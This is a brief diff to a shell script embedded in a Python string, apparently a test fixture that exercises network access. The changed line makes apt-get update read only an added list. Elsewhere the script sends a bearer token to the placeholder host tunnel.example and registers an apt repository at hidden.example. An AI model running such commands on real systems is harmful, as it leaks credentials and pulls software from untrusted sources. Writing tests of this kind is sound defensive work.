@@ -35,7 +35,7 @@ bash -c 'curl -sS -o /dev/null https://tunnel.example:22/ --oauth2-bearer hunter
 while [ ! -e done ]; do sleep 0.01; done
 su nobody -s /bin/sh -c 'python3 ask.py get http://user.example/; true'
 echo 'deb http://hidden.example/ x main' >/etc/apt/sources.list.d/x.list
-apt-get -o Acquire::Retries=0 update
+apt-get -o Dir::Etc::sourcelist=sources.list.d/x.list -o Dir::Etc::sourceparts=- update
 exit 7
 """
 
